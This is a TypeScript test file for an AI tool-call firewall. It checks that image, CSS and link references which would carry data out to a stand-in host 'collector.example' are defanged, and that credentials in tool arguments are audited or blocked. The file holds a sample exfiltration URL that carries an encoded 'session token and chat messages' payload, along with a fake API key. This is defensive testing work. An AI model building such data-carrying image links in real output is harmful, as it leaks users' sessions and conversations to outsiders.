import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectHost, errorCode, texts, waitFor, type Host } from '../helpers/host.js';
import { hostileManifest, Workspace } from '../helpers/workspace.js';

/**
 * Exfiltration by construction and credentials in arguments, through the real `serve` and the
 * real SDK client: a page whose images would carry data out when the host renders it, and a
 * call whose argument carries a key.
 */

const env = { HOSTILE_EXFIL: '1', HOSTILE_ONLY: 'exfil_page,echo_args' };
const approve = {
  exfil_page: { capabilities: ['content.untrusted'], result: { structuredContent: { type: 'object', properties: { page: { type: 'string' } }, required: ['page'] } } },
  echo_args: {},
};
const agents = { reader: { clearance: 'public', capabilities: ['content.untrusted'] } };
const j = (...parts: string[]) => parts.join('');
// A fake key, assembled at run time so the source holds no scannable secret.
const FAKE_KEY = j('sk-ant-', 'api03-', 'Zq8'.repeat(31), 'AA');
const STOLEN = Buffer.from('user session token and the last ten chat messages').toString('base64');

const audited = new Workspace();
const blocking = new Workspace();
const open = new Workspace();
let host: Host;
let blockingHost: Host;
let openHost: Host;

beforeAll(async () => {
  const manifest = await hostileManifest(approve, env, 'web');
  for (const ws of [audited, blocking, open]) ws.writeManifest(manifest);
  audited.writeConfig({ agents, stdioAgent: 'reader', scan: { exfiltration: { allowedImageHosts: ['*.trusted.example'] } } });
  blocking.writeConfig({ agents, stdioAgent: 'reader', scan: { secretsInArguments: 'block' } });
  open.writeConfig({ agents, stdioAgent: 'reader', scan: { exfiltration: { mode: 'off' } } });
  [host, blockingHost, openHost] = await Promise.all([connectHost(audited.configFile), connectHost(blocking.configFile), connectHost(open.configFile)]);
}, 60_000);

afterAll(async () => {
  await Promise.all([host?.close(), blockingHost?.close(), openHost?.close()]);
  for (const ws of [audited, blocking, open]) ws.cleanup();
});

async function lastCall(ws: Workspace, count: number) {
  await waitFor(() => ws.auditRecords().filter((r) => r.method === 'tools/call').length >= count);
  return ws.auditRecords().filter((r) => r.method === 'tools/call').at(-1)!;
}

describe('exfiltration images through the firewall', () => {
  it('defangs every external image kind and data-carrying link, keeps the allowlisted image', async () => {
    const result = await host.client.callTool({ name: 'web__exfil_page', arguments: {} });
    expect(result.isError).toBeFalsy();
    const [text, resource] = [texts(result)[0]!, (result.content as Array<{ resource?: { text: string } }>)[1]!.resource!.text];
    const structured = (result.structuredContent as { page: string }).page;
    for (const body of [text, resource, structured]) {
      expect(body).not.toContain('collector.example/');
      expect(body).not.toContain(STOLEN);
      expect(body).toContain('chart [image removed: host collector.example]');
      expect(body).toContain('diagram [image removed: host collector.example]');
      expect(body).toContain('the full report [link removed: host collector.example]');
      expect(body).toContain('background-image:none/*[image removed: host collector.example]*/');
      expect(body).toContain('![company logo](https://images.trusted.example/logo.png)');
    }
    const record = await lastCall(audited, 1);
    expect(record.decision).toBe('allow');
    // Counts per kind for the three copies of the page; no URL or host in the record.
    expect(record.details.exfilDefanged).toEqual(['css-url:6', 'html-image:3', 'link:3', 'markdown-image:6', 'reference-image:3', 'srcset:6']);
    expect(JSON.stringify(record)).not.toContain('collector.example');
  });

  it('leaves the page as sent when the mode is off', async () => {
    const result = await openHost.client.callTool({ name: 'web__exfil_page', arguments: {} });
    expect(texts(result)[0]).toContain(`https://collector.example/pixel.png?d=${STOLEN}`);
  });
});

describe('credentials in outbound arguments', () => {
  it('audits a key in an argument by default: type and path, never the value', async () => {
    const result = await host.client.callTool({ name: 'web__echo_args', arguments: { note: 'hi', headers: { Authorization: `Bearer ${FAKE_KEY}` } } });
    expect(texts(result)[0]).toContain('received headers, note');
    const record = await lastCall(audited, 2);
    expect(record.rules).toContain('secret-arg:anthropic-key');
    expect(record.details.argumentSecrets).toEqual(['headers.Authorization (anthropic-key)']);
    expect(JSON.stringify(audited.auditRecords())).not.toContain(FAKE_KEY.slice(10, 30));
  });

  it('refuses the call with ARGS_SECRET naming the path when configured to block', async () => {
    const result = await blockingHost.client.callTool({ name: 'web__echo_args', arguments: { note: `use ${FAKE_KEY}` } });
    expect(result.isError).toBe(true);
    expect(errorCode(result)).toBe('ARGS_SECRET');
    const message = texts(result).join('\n');
    expect(message).toContain('argument note holds what looks like a credential (anthropic-key)');
    expect(message).not.toContain(FAKE_KEY.slice(10, 30));
    const record = await lastCall(blocking, 1);
    expect(record).toMatchObject({ decision: 'block', reason: 'ARGS_SECRET' });
    const ok = await blockingHost.client.callTool({ name: 'web__echo_args', arguments: { note: 'no key here' } });
    expect(texts(ok)[0]).toContain('received note');
  });
});
